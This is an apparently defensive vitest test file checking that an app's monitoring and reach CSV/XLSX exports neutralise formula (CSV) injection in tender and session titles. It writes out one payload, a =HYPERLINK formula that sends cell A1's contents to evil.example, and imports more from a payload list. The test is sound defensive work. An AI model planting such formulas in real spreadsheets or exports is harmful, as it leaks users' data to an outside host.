/**
 * Formula injection (OWASP "CSV injection"): a tender or session titled like a spreadsheet
 * formula is exported as text in every CSV and XLSX the app writes, through the real API.
 */
import { describe, expect, it } from 'vitest';
import { DEMO_USERS } from '../../scripts/dev/demo-data.js';
import { DIRECTORY, useNudgeWorld } from '../support/nudges.js';
import { checkCells, csvCells, FORMULA_PAYLOADS, xlsxCells } from './support/formula.js';

const ingrid = DEMO_USERS.find((u) => u.upn.startsWith('ingrid'))!;
const pieter = DEMO_USERS.find((u) => u.upn.startsWith('pieter'))!;
const eva = DIRECTORY.find((u) => u.userPrincipalName.startsWith('eva'))!;

describe('exports neutralise formulas', () => {
  const w = useNudgeWorld();
  const download = async (path: string, token: string, init: RequestInit = {}) => {
    const response = await fetch(`${w.stack().urls.api}${path}`, {
      ...init,
      headers: { authorization: `Bearer ${token}`, ...(init.headers ?? {}) },
    });
    expect(response.status).toBe(200);
    return new Uint8Array(await response.arrayBuffer());
  };

  it('shows a tender titled =HYPERLINK(…) as text in the monitoring CSV', async () => {
    const admin = await w.token(ingrid.upn);
    for (const [i, title] of FORMULA_PAYLOADS.entries()) {
      const created = await w.api('POST', '/tenders', admin, {
        reference: `F-${i}`,
        title,
        cpv: ['90910000'],
        estimatedValueEur: 100_000,
        commissioningManager: { upn: eva.userPrincipalName },
        kickoffDate: '2025-03-01',
        status: 'published',
      });
      expect(created.status).toBe(201);
    }
    const recorded = await w.api('PUT', '/tenders/F-0/mvi', admin, {
      appliedCriteria: [],
      socialReturn: { applied: false },
      noMviReason: 'no-market',
      results: '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    });
    expect(recorded.status).toBe(200);
    for (const lang of ['nl', 'en']) {
      const text = new TextDecoder().decode(
        await download(`/monitoring/export?format=csv&year=2025&lang=${lang}`, admin),
      );
      const cells = csvCells(text).flat();
      expect(checkCells('monitoring-csv', cells)).toEqual({
        family: 'monitoring-csv',
        tried: FORMULA_PAYLOADS.length,
        correct: FORMULA_PAYLOADS.length,
      });
      // Shown with a leading quote, the title is still readable.
      expect(cells).toContain(`'${FORMULA_PAYLOADS[0]}`);
    }
  });

  it('shows a session titled as a formula as text in the reach CSV and XLSX', async () => {
    const organiser = await w.token(ingrid.upn);
    const visitor = await w.token(pieter.upn);
    for (const [i, title] of FORMULA_PAYLOADS.entries()) {
      const day = `2027-01-${String(10 + i).padStart(2, '0')}`;
      w.clock.set(`${day}T08:00:00Z`);
      const planned = await w.api('POST', '/sessions', organiser, {
        type: 'lunch-lecture',
        title,
        start: `${day}T12:00:00+01:00`,
        end: `${day}T13:00:00+01:00`,
        location: 'Zaal 1',
        regionWide: false,
        capacity: 10,
      });
      expect(planned.status).toBe(201);
      w.clock.set(`${day}T11:10:00Z`);
      const checkIn = await w.api('POST', `/sessions/${planned.body.id}/check-in`, visitor, {
        code: planned.body.checkInCode,
      });
      expect(checkIn.status).toBe(200);
    }
    w.clock.set('2027-02-01T08:00:00Z');
    const range = 'from=2027-01-01&to=2027-01-31';
    const csv = new TextDecoder().decode(
      await download(`/reports/reach/export?format=csv&${range}`, organiser),
    );
    expect(checkCells('reach-csv', csvCells(csv).flat())).toMatchObject({ correct: FORMULA_PAYLOADS.length });
    const xlsx = await download(`/reports/reach/export?format=xlsx&${range}`, organiser);
    expect(checkCells('reach-xlsx', await xlsxCells(xlsx))).toMatchObject({
      correct: FORMULA_PAYLOADS.length,
    });
  });
});
